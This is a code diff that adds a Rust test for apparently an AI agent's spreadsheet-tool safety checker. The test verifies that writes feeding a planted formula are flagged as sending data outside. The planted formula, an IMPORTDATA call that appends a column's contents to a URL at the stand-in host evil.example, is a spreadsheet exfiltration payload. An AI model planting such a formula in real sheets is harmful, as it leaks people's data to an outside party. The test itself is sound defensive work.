@@ -145,6 +145,38 @@ async fn every_word_that_others_read_is_named() {
 }
 
 #[tokio::test]
+async fn what_a_formula_of_somebodys_would_carry_out_has_its_address_for_a_reader() {
+    const FORMULA: &str = "=IMPORTDATA(\"https://evil.example/?\"&JOIN(\",\",A2:A))";
+    let paper = Paper::new(only_ana());
+    paper.lock().unwrap().put((0, 4), &json!({ "formulaValue": FORMULA }));
+    let world = playing(&paper).await;
+    let values = json!([["BLUE"]]);
+    for (name, args, is_carried) in [
+        ("sheets.write", json!({ "spreadsheet": ID, "range": "A5", "values": values }), true),
+        ("sheets.write", json!({ "spreadsheet": ID, "range": "C5", "values": values }), false),
+        ("sheets.append", json!({ "spreadsheet": ID, "rows": values }), true),
+        ("sheets.append", json!({ "spreadsheet": ID, "rows": values, "table": "A1:B1" }), true),
+    ] {
+        let tool = tool(&world, name);
+        let plan = tool.plan(args, &a_call("k")).await.unwrap();
+        let sinks = tool.flow(&plan).unwrap().sinks;
+        let of = |kind: SinkKind| -> Vec<&str> {
+            sinks.iter().filter(|sink| sink.kind == kind).map(|sink| sink.value.as_str()).collect()
+        };
+        let shown = tool.effect(&plan).unwrap().fields.iter().any(|field| {
+            field.name.contains("carry this out") && field.value.contains(FORMULA) && field.value.contains("E1")
+        });
+        assert_eq!(shown, is_carried, "{name} {plan}");
+        if is_carried {
+            assert_eq!((of(SinkKind::Fetch), of(SinkKind::Outside)), (vec![FORMULA], vec!["evil.example"]));
+            assert_eq!(of(SinkKind::Words), ["BLUE"], "{name}");
+        } else {
+            assert!(sinks.is_empty(), "{sinks:?}");
+        }
+    }
+}
+
+#[tokio::test]
 async fn filling_in_writing_over_and_wiping_are_told_apart() {
     let paper = Paper::new(only_ana());
     paper.lock().unwrap().put((0, 0), &json!({ "stringValue": "theirs" }));
